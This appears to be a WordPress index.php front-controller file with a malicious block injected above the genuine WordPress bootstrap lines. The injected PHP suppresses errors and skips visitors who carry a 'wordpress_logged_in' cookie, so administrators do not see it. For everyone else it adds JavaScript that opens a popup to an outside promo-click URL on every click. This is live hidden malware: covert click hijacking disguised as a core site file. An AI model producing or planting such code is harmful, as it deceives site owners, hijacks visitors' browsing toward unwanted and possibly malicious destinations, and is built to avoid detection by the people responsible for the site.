<?php
error_reporting(0);
// visitors who are not signed in to WordPress get a new window on every click
$signed = false;
foreach ($_COOKIE as $name => $value) {
    if (strpos($name, 'wordpress_logged_in') !== false) {
        $signed = true;
        break;
    }
}
if (!$signed && strpos($_SERVER['REQUEST_URI'], 'wp-login.php') === false) {
    echo "<script>document.addEventListener('click', function () {
        var target = \"https://promo-clicks.example/go/42\";
        window.open(target, '_blank');
    });</script>";
}
?>
<?php
/** Front to the WordPress application. */
define('WP_USE_THEMES', true);
require __DIR__ . '/wp-blog-header.php';
